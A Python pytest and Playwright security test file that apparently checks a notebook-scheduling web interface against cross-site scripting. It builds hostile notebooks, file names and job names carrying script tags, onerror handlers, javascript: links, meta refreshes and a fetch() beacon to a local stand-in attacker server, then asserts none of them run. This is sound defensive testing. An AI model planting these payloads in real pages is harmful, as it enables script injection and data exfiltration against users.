"""Names, outputs and cells that attack the page which shows them."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import nbformat.v4
import pytest
from playwright.sync_api import Error, Page, Response, expect

from tests.servers.listening import listening

ATTACK = "document.documentElement.dataset.canary='{0}';fetch('{1}/{0}');top.canary='{0}'"


class Beacon:
    """A server of the attacker's, which remembers whoever asks it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        beacon = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                beacon.asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                """Stay silent."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    made = Beacon()
    with listening(made.server):
        yield made


def hostile_html(beacon: Beacon, where: str) -> str:
    script = ATTACK.format(where, beacon.url)
    return (
        f'<script>{script}</script><img src="x" onerror="{script}">'
        f'<svg onload="{script}"><script>{script}</script></svg>'
        f'<img src="{beacon.url}/{where}-img"><iframe src="{beacon.url}/{where}-frame"></iframe>'
        f'<link rel="stylesheet" href="{beacon.url}/{where}-css">'
        f"<style>body {{ background: url({beacon.url}/{where}-style) }}</style>"
        f'<meta http-equiv="refresh" content="0;url={beacon.url}/{where}-refresh">'
        f'<form action="{beacon.url}/{where}-form"><input autofocus onfocus="{script}"></form>'
        f'<object data="{beacon.url}/{where}-object"></object>'
        f'<img src="/himalia/api/status?{where}">'
        f'<base href="{beacon.url}/"><a href="javascript:{script}">press me</a>'
    )


def hostile_notebook(beacon: Beacon) -> dict[str, Any]:
    """Attack from every place of a notebook that a preview could show."""
    html, svg = hostile_html(beacon, "html"), hostile_html(beacon, "svg")
    code = f"""
from IPython.display import display
display({{
    "text/html": {html!r}, "text/plain": {html!r},
}}, raw=True)
image = '<svg xmlns="http://www.w3.org/2000/svg">' + {svg!r} + "</svg>"
display({{"image/svg+xml": image}}, raw=True)
display({{"image/png": '"><script>top.canary=1</script>'}}, raw=True)
display({{"application/javascript": {ATTACK.format("javascript", beacon.url)!r}}}, raw=True)
print({html!r})
open("<img src=x onerror=top.canary=1>.txt", "w").write("1")
open("page.html", "w").write({html!r})
open("image.svg", "w").write(image)
raise ValueError({html!r})
"""
    skipped = {"tags": ["skip-execution"]}
    cells = [
        nbformat.v4.new_markdown_cell("# Hi\n\n" + hostile_html(beacon, "markdown")),
        nbformat.v4.new_raw_cell(hostile_html(beacon, "raw")),
        nbformat.v4.new_code_cell(hostile_html(beacon, "tag"), metadata=skipped),
        nbformat.v4.new_code_cell(code),
    ]
    metadata = {
        "title": html,
        "kernelspec": {"name": "python3", "display_name": html, "language": "python"},
        "language_info": {"name": "python"},
    }
    return dict(nbformat.v4.new_notebook(cells=cells, metadata=metadata))


def assert_harmless(page: Page, beacon: Beacon) -> None:
    assert page.evaluate("window.canary") is None
    assert page.evaluate("document.documentElement.dataset.canary") is None
    assert page.locator(".hm-Widget img, .hm-Widget script, .hm-Widget svg script").count() == 0
    assert beacon.asked == []


def test_020_a_hostile_notebook_does_nothing_where_its_run_is_shown(
    page: Page,
    visit: Callable[..., None],
    shoot: Callable[[str], None],
    rest: httpx.Client,
    lab: Any,
    beacon: Beacon,
) -> None:
    (lab.root / "hostile.ipynb").write_text(json.dumps(hostile_notebook(beacon)))
    spec = {"notebook": "hostile.ipynb", "formats": ["html"], "outputs": ["*"]}
    answer = rest.post("jobs", json={"spec": spec})
    assert answer.status_code == 201, answer.text
    loaded_by_frames: list[str] = []

    def watch(answer: Response) -> None:
        # A tab's first answer may come before there is a frame to ask about.
        with suppress(Error):
            if answer.frame.parent_frame is not None and answer.url.startswith("http"):
                loaded_by_frames.append(answer.url)

    visit(panel=True)
    page.context.on("response", watch)
    page.get_by_role("button", name="hostile", exact=True).first.click()
    expect(page.locator(".hm-RunPage-state")).to_contain_text("Failed")
    preview = page.frame_locator("iframe[title='Executed notebook']")
    expect(preview.locator("h1")).to_have_text("Hi")
    preview.get_by_text("press me").first.click()
    shoot("hostile-notebook")
    assert_harmless(page, beacon)
    for tab in ("Log", "Timing", "Files", "Details"):
        page.locator(".hm-RunPage").get_by_role("tab", name=tab).click()
        assert_harmless(page, beacon)
    page.locator(".hm-RunPage").get_by_role("tab", name="Files").click()
    expect(page.locator(".hm-Table")).to_contain_text("<img src=x onerror=top.canary=1>.txt")
    for file in ("page.html", "image.svg"):
        with page.context.expect_page() as opened:
            page.get_by_role("link", name=f"Open {file} in a new tab").click()
        opened.value.wait_for_load_state()
        opened.value.wait_for_timeout(500)
        assert opened.value.url.startswith(lab.url), "it went elsewhere by itself"
        opened.value.close()
    assert_harmless(page, beacon)
    assert loaded_by_frames == []


def test_021_hostile_names_are_shown_as_they_are_written(
    page: Page,
    visit: Callable[..., None],
    shoot: Callable[[str], None],
    notebook: Callable[..., str],
    rest: httpx.Client,
    beacon: Beacon,
) -> None:
    name = "<img src=x onerror=\"top.canary='name'\"> & </script>"
    file = notebook("<img src=x onerror=top.canary=1>.ipynb", "1", parameters="x = 1")
    made = rest.post(
        "jobs",
        json={"name": name, "spec": {"notebook": file, "parameters": {"x": name}}},
    )
    assert made.status_code == 201, made.text
    schedule = {"workload_id": made.json()["id"], "cron": "0 0 1 1 *"}
    rest.post("schedules", json=schedule).raise_for_status()
    visit(panel=True)
    for tab in ("Runs", "Jobs", "Schedules"):
        page.get_by_role("tab", name=tab, exact=True).click()
        expect(page.locator(".hm-Item-name", has_text="top.canary='name'").first).to_have_text(name)
        assert_harmless(page, beacon)
    page.locator(".hm-Item-name", has_text="top.canary='name'").first.click()
    expect(page.get_by_role("heading", name="Schedule of")).to_contain_text(name)
    assert_harmless(page, beacon)
    page.get_by_role("tab", name="Runs", exact=True).click()
    page.locator(".hm-Item-name", has_text="top.canary='name'").first.click()
    expect(page.locator(".hm-RunPage h1")).to_have_text(name)
    page.get_by_role("button", name="Edit job…").click()
    expect(page.get_by_label("Name", exact=True)).to_have_value(name)
    shoot("hostile-names")
    assert_harmless(page, beacon)
